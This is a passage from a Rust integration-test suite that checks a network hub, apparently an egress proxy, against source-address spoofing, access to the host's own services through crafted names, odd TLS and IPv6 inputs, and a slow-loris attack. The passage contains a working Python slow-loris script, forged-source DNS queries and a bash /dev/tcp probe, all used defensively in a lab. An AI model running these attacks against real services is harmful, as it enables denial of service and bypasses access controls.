                "-b",
                src,
                "@10.77.1.1",
                name,
                "A",
            ],
        );
    };
    dig("spoof-probe.test", "10.77.0.2");
    dig("honest-probe.test", "10.77.1.2");
    wait_for("the honest query's audit line", || {
        lab.log("hub.log").contains("honest-probe.test")
    });
    let log = lab.log("hub.log");
    assert!(
        !log.contains("spoof-probe.test"),
        "the hub answered a forged source: {log}"
    );
    let counters = ok(&[
        "ip",
        "netns",
        "exec",
        &lab.ns("hub"),
        "nft",
        "list",
        "chain",
        "inet",
        "mcp_hub",
        "antispoof",
    ]);
    assert!(
        counters
            .lines()
            .any(|l| l.contains("vd1") && l.contains("fib saddr") && !l.contains("packets 0 ")),
        "{counters}"
    );
    // The forged address goes again, so later checks see dbx2 as itself.
    ok(&[
        "ip",
        "-n",
        &lab.ns("dbx2"),
        "addr",
        "del",
        "10.77.0.2/32",
        "dev",
        "eth0",
    ]);
}

fn names_of_the_hub_host_reach_none_of_its_services(w: &mut World) {
    let lab = &w.lab;
    // SECURITY 4: a name that resolves to one of the hub host's own addresses reaches none of its
    // services (only the hub's own listeners were guarded before).
    let got = get(lab, "http://hubself.test:2222/");
    assert!(got.contains("X-Proxy-Error: host_address"), "{got}");
    let got = raw_tcp(
        lab,
        "dbx",
        "10.77.0.1",
        3128,
        "CONNECT hubself.test:2222 HTTP/1.1\r\nHost: hubself.test:2222\r\n\r\n",
    );
    assert!(got.contains("X-Proxy-Error: host_address"), "{got}");
}

fn addresses_added_to_the_host_count_at_once(w: &mut World) {
    let lab = &w.lab;
    // SECURITY 5: an address added to the host while the hub runs is the host's at once.
    ok(&[
        "ip",
        "-n",
        &lab.ns("hub"),
        "addr",
        "add",
        "10.88.0.9/24",
        "dev",
        "vw",
    ]);
    let probe = "exec 3<>/dev/tcp/10.88.0.9/2222";
    wait_for("the new address", || {
        lab.exec("hub", &["bash", "-c", probe]).status.success()
    });
    let got = get(lab, "http://hubnew.test:2222/");
    assert!(got.contains("X-Proxy-Error: host_address"), "{got}");
    assert!(
        !lab.log("hostsvc.log").contains("GET /"),
        "the host service was reached: {}",
        lab.log("hostsvc.log")
    );
}

fn odd_openings_get_the_promised_answers(w: &mut World) {
    let lab = &w.lab;
    // Also seen end to end: a ClientHello whose SNI rustls refuses (numeric) gets the promised
    // access_denied alert, not a reset; the devbox's IPv6 resolver is answered; an IPv4-compatible
    // IPv6 destination is refused at once instead of hanging.
    let o = lab.exec(
        "dbx",
        &[
            "bash",
            "-c",
            "timeout 8 openssl s_client -connect 10.88.0.2:443 -servername 2130706433 </dev/null",
        ],
    );
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(out.contains("alert access denied"), "{out}");
    let o = lab.exec(
        "dbx",
        &[
            "dig",
            "-6",
            "+tries=1",
            "+time=3",
            "@fd77::1",
            "allowed.test",
            "A",
        ],
    );
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        out.contains("status: NOERROR") && out.contains("10.88.0.2"),
        "IPv6 DNS: {out}"
    );
    let start = Instant::now();
    let got = get(lab, "http://[::10.88.0.2]/");
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "::a.b.c.d took {:?}: {got}",
        start.elapsed()
    );
    assert!(!got.contains("hello from the world"), "{got}");
}

fn slow_loris_does_not_delay_real_requests(w: &mut World) {
    let lab = &mut w.lab;
    // Slow-loris on the transparent listener: 200 connections (to ports 80 and 443, both redirected)
    // that send one byte of a request head or a ClientHello and then nothing. While they are held, a
    // real request is served at once; the hub closes every one of them by itself (first-byte and
    // ClientHello deadlines) instead of holding them forever.
    let loris = "import socket,time\ncs=[]\nfor i in range(200):\n  s=socket.create_connection(('10.88.0.2',80 if i%2 else 443),timeout=5)\n  s.sendall(b'G' if i%2 else b'\\x16')\n  cs.append(s)\nprint('held',flush=True)\nt=time.time()\nfor s in cs:\n  s.settimeout(max(0.1,40-(time.time()-t)))\n  try:\n    s.recv(1)\n  except TimeoutError as e:\n    print('still open',e,flush=True)\n  except OSError:\n    pass\nprint('closed after %.1f'%(time.time()-t),flush=True)";
    lab.spawn("dbx", &["python3", "-c", loris], &[], "loris.log");
    wait_for("the slow-loris connections", || {
        lab.log("loris.log").contains("held")
    });
    let start = Instant::now();
    let got = raw_tcp(
        lab,
        "dbx",
        "10.88.0.2",
        80,
        "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n",
    );
    assert!(
        got.contains("hello from the world") && start.elapsed() < Duration::from_secs(3),
        "a real request behind 200 slow-loris connections took {:?}: {got}",
        start.elapsed()
    );
    let deadline = Instant::now() + Duration::from_secs(45);
    while !lab.log("loris.log").contains("closed after") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(200));
    }
    let out = lab.log("loris.log");
    assert!(
        out.contains("closed after") && !out.contains("still open"),
        "the hub held slow-loris connections: {out}"
    );
    eprintln!("slow-loris: {}", out.trim());
}
